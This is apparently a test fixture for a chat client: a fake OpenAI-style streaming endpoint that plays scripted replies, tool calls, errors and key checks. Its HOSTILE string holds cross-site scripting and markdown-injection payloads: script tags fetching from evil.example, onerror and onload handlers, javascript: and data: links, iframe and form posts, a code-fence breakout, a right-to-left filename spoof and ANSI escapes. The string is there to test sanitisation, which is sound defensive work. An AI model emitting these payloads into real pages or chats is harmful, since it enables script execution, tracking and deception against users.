// A model endpoint that answers by script. What the newest message of the person says chooses the script.

import { once } from "node:events";
import { createServer } from "node:http";

/** Starts an endpoint that speaks OpenAI's chat completions. */
export async function startModel() {
  const gates = new Map();
  const failures = { left: 0 };
  const requests = [];
  const door = { key: "", isListPublic: false, hasKeyPath: false };
  const server = createServer(async (request, response) => {
    let body = "";
    for await (const piece of request) body += piece;
    const isList = request.url?.endsWith("/models");
    if (request.url?.endsWith("/key") && !door.hasKeyPath) {
      response.statusCode = 404;
      response.end("there is no such page");
      return;
    }
    if (door.key !== "" && !(isList && door.isListPublic) && request.headers.authorization !== `Bearer ${door.key}`) {
      response.statusCode = 401;
      response.setHeader("content-type", "application/json");
      response.end(JSON.stringify({ error: { message: `Incorrect API key provided: ${request.headers.authorization}`, type: "invalid_request_error" } }));
      return;
    }
    if (request.url?.endsWith("/key")) {
      response.setHeader("content-type", "application/json");
      response.end('{"data":{"label":"mine"}}');
      return;
    }
    if (isList) {
      response.setHeader("content-type", "application/json");
      response.end(JSON.stringify({ object: "list", data: ["one", "two"].map((id) => ({ id, object: "model" })) }));
      return;
    }
    const asked = JSON.parse(body);
    requests.push(asked);
    if (failures.left > 0) {
      failures.left -= 1;
      response.statusCode = 500;
      response.setHeader("content-type", "application/json");
      response.end(JSON.stringify({ error: { message: "the scripted model fails", type: "server_error" } }));
      return;
    }
    response.setHeader("content-type", "text/event-stream");
    const say = async (choice, more = {}) => {
      const chunk = { ...more, id: "c1", object: "chat.completion.chunk", created: 1, model: asked.model, choices: [{ index: 0, ...choice }] };
      if (!response.write(`data: ${JSON.stringify(chunk)}\n\n`)) await once(response, "drain").catch(() => {});
    };
    const speak = {
      text: (content) => say({ delta: { content }, finish_reason: null }),
      think: (reasoning_content) => say({ delta: { reasoning_content }, finish_reason: null }),
      call: (index, name, input) => say({
        delta: { tool_calls: [{ index, id: `c${index}`, type: "function", function: { name, arguments: typeof input === "string" ? input : JSON.stringify(input) } }] },
        finish_reason: null,
      }),
      /** A call whose arguments stop in the middle until the gate opens. */
      partly: async (name, input, gate) => {
        const text = JSON.stringify(input);
        const piece = (more) => say({ delta: { tool_calls: [{ index: 0, ...more }] }, finish_reason: null });
        await piece({ id: "c0", type: "function", function: { name, arguments: "" } });
        const half = Math.ceil(text.length * 0.7);
        for (let at = 0; at < half; at += 3) await piece({ function: { arguments: text.slice(at, Math.min(half, at + 3)) } });
        await gate();
        await piece({ function: { arguments: text.slice(half) } });
      },
      gate: (name) => (gates.get(name) ?? gates.set(name, gate()).get(name)).pass(),
    };
    const reason = await answer(asked, speak);
    await say({ delta: {}, finish_reason: reason },
      { usage: { prompt_tokens: 1_000, completion_tokens: 200, total_tokens: 1_200, prompt_tokens_details: { cached_tokens: 400 } } });
    response.end("data: [DONE]\n\n");
  });
  // A connection that is ended at the instant at which the next question comes over it would be a failure of the model.
  server.keepAliveTimeout = 0;
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return {
    url: `http://127.0.0.1:${server.address().port}/v1`,
    requests,
    /** Lets nobody in without this key, but to the list of models where that is everybody's. */
    lock: (key, more = {}) => Object.assign(door, { key, ...more }),
    failNext: (times) => (failures.left = times),
    gate: (name) => gates.get(name) ?? gates.set(name, gate()).get(name),
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

/** A place where the model waits until the test lets it go on. */
function gate() {
  let reach;
  let open;
  const reached = new Promise((resolve) => (reach = resolve));
  const opened = new Promise((resolve) => (open = resolve));
  return { reached, open, pass: () => { reach(); return opened; } };
}

/** All numbers, each once: a text in which what is lost or doubled shows. */
export const numbers = (from, to) => Array.from({ length: to - from }, (_, at) => `n${from + at}`).join(" ");

export const MARKDOWN = `# A title

Some **bold** words, \`code\`, a [link](https://example.org/) and

| a | b |
|---|---|
| 1 | 2 |

- one
- two

\`\`\`python
def greet(name):
    return f"Hello {name}"
\`\`\`
`;

export const HOSTILE = `<script>window.hacked = 1; fetch("https://evil.example/script")</script>

<img src="https://evil.example/pixel.png" onerror="window.hacked = 2">

![tracking](https://evil.example/track.png)

![data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTM8L3NjcmlwdD4=)

[click](javascript:window.hacked=4) and [data](data:text/html,<script>window.hacked=5</script>) and <javascript:window.hacked=6>

<iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/form"><button>Send</button></form>

<svg onload="window.hacked=7"><style>@import "https://evil.example/style.css";</style></svg>

<a href="https://evil.example/" onmouseover="window.hacked=8" style="position:fixed;inset:0">cover</a>

\`\`\`html"><script>window.hacked=9</script>
<script>window.hacked=10</script>
\`\`\`

[x]: https://evil.example/ "\\"onmouseover=\\"window.hacked=11"
[reference][x] \u202Egnp.exe \u001b[31mred\u001b[0m
`;

/** Questions as people ask them, for pictures. */
const ASKED = {
  "How do I greet somebody in Python?": "markdown",
  "What is in this folder?": 'both filesystem__list filesystem__stat {"path":"."}',
  "Note the weather in Paris": 'tool filesystem__write {"path":"notes/paris.md","content":"# Paris\\n\\n15 °C, light rain.\\n"}',
  "What time is it at the server?": "tool basic__get-time {}",
  "Sign me up": "tool everything__trigger-elicitation-request {}",
};

async function answer(asked, { text, think, call, partly, gate }) {
  // An image that a tool gave follows its result in a message of its own.
  const last = asked.messages.slice(-2).findLast(({ role }) => role === "tool");
  const said = asked.messages.findLast(({ role }) => role === "user")?.content ?? "";
  const words = typeof said === "string" ? said : said.map(({ text }) => text ?? "").join(" ");
  const question = ASKED[words] ?? words;
  if (last) {
    await text(`The tool said ${String(last.content).length} characters.`);
    return "stop";
  }
  const wanted = question.match(/^tool (\S+) (\{.*\})$/s);
  if (wanted) {
    await text("I will look. ");
    // As it is written: numbers of any size stay as they are.
    await call(0, wanted[1], wanted[2]);
    return "tool_calls";
  }
  const beside = question.match(/^partly (\S+) (\S+) (\{.*?\}) (\S+) (\{.*\})$/s);
  if (beside) {
    await call(0, beside[2], JSON.parse(beside[3]));
    await gate(beside[1]);
    await call(1, beside[4], JSON.parse(beside[5]));
    return "tool_calls";
  }
  const slow = question.match(/^partly (\S+) (\S+) (\{.*\})$/s);
  if (slow) {
    await partly(slow[2], JSON.parse(slow[3]), () => gate(slow[1]));
    return "tool_calls";
  }
  const both = question.match(/^both (\S+) (\S+) (\{.*\})$/s);
  if (both) {
    await call(0, both[1], JSON.parse(both[3]));
    await call(1, both[2], JSON.parse(both[3]));
    return "tool_calls";
  }
  const counted = question.match(/^count through (\S+)$/);
  if (counted) {
    for (let at = 0; at < 60; at += 1) await text(`n${at} `);
    await gate(counted[1]);
    for (let at = 60; at < 120; at += 1) await text(`n${at} `);
    return "stop";
  }
  switch (question) {
    case "markdown":
      await think("First a title, then the rest.");
      for (const piece of MARKDOWN.match(/[\s\S]{1,7}/g)) await text(piece);
      return "stop";
    case "think alone":
      await think("Nothing comes of it.");
      return "stop";
    case "hostile":
      for (const piece of HOSTILE.match(/[\s\S]{1,11}/g)) await text(piece);
      return "stop";
    case "flood": {
      // 64 KB in 10,000 pieces: prose, lists and code, as models write them.
      const paragraph = "Some words that make a paragraph of the usual length, with `code` and **bold** in it, again and again.\n\n";
      const block = "```js\nconst answer = 42;\nconsole.log(answer);\n```\n\n- one thing\n- another thing\n\n";
      const whole = (paragraph.repeat(5) + block).repeat(110).slice(0, 65_536);
      const size = whole.length / 10_000;
      for (let at = 0; at < 10_000; at += 1) await text(whole.slice(Math.round(at * size), Math.round((at + 1) * size)));
      return "stop";
    }
    default:
      await text(`You said: ${question}`);
      return "stop";
  }
}
